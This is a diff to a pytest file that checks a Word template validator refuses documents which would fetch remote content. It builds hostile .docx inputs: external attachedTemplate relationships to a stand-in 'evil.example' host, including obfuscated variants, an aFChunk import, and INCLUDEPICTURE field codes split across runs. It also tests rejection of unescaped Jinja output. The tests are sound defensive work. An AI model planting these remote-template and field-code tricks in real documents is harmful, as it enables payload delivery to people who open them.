@@ -109,23 +109,66 @@ def test_nothing_behind_a_field_can_be_reached(line: str) -> None:
     assert "class" not in made and "globals" not in made
 
 
-def test_a_file_that_would_call_out_is_refused() -> None:
-    held = io.BytesIO(word("{{ 问题标题 }}"))
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+FETCH = f'Type="{OFFICE}/attachedTemplate"'
+
+
+def changed(part: str, before: str, new: str) -> bytes:
+    """A template with `new` put before `before` in one part."""
     out = io.BytesIO()
-    with zipfile.ZipFile(held) as old, zipfile.ZipFile(out, "w") as new:
+    with zipfile.ZipFile(io.BytesIO(word("{{ 问题标题 }}"))) as old, zipfile.ZipFile(out, "w") as made:
         for name in old.namelist():
             data = old.read(name)
-            if name == "word/_rels/document.xml.rels":
-                data = data.replace(
-                    b"</Relationships>",
-                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-                    b'relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
-                    b"</Relationships>",
-                )
-            new.writestr(name, data)
+            made.writestr(
+                name, data.replace(before.encode(), (new + before).encode(), 1) if name == part else data
+            )
+    return out.getvalue()
+
+
+def related(attributes: str) -> bytes:
+    return changed("word/_rels/document.xml.rels", "</Relationships>", f'<Relationship Id="x" {attributes}/>')
+
+
+def coded(*codes: str) -> bytes:
+    """With a field of Word whose code is written in these runs."""
+    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
+    return changed("word/document.xml", "<w:sectPr", f"<w:p>{runs}</w:p>")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        related(f'{FETCH} Target="http://evil.example/a.dotm" TargetMode="External"'),
+        related(f"{FETCH} Target='http://evil.example/a' TargetMode='External'"),
+        related(f'{FETCH} Target="http://evil.example/hyperlink" TargetMode="External"'),
+        related(f'{FETCH} Target="http://evil.example/?a>b" TargetMode="External"'),
+        related(f'{FETCH} Target="http://evil.example/a" TargetMode="Exter&#110;al"'),
+        related(f'Type="{OFFICE}/aFChunk" Target="page.html"'),
+        coded(' INCLUDEPICTURE "http://evil.example/a.png" '),
+        coded(" INCLUDE", 'PICTURE "http://evil.example/a.png" '),
+        coded(" {{ 问题标题 }} "),
+    ],
+)
+def test_a_file_that_would_call_out_is_refused(content: bytes) -> None:
     with pytest.raises(filling.FillingError) as error:
-        filling.check(out.getvalue(), NAMES)
+        filling.check(content, NAMES)
     assert error.value.code == "fetches"
+
+
+def test_links_to_click_and_page_numbers_are_no_calls() -> None:
+    assert filling.check(coded(" PAGE ", ' HYPERLINK "http://a.example" '), NAMES) == ["问题标题"]
+    link = related(f'Type="{OFFICE}/hyperlink" Target="http://a.example" TargetMode="External"')
+    assert filling.check(link, NAMES) == ["问题标题"]
+
+
+@pytest.mark.parametrize(
+    "line", ["{{ 问题标题|safe }}", "{% autoescape false %}{{ 问题标题 }}{% endautoescape %}"]
+)
+def test_no_text_is_written_as_it_is(line: str) -> None:
+    """Words of a record would become parts of the file."""
+    with pytest.raises(filling.FillingError) as error:
+        filling.check(word(line), NAMES)
+    assert error.value.code == "syntax"
 
 
 def test_the_starter_names_every_field_and_passes_its_own_check(cast: Cast) -> None:
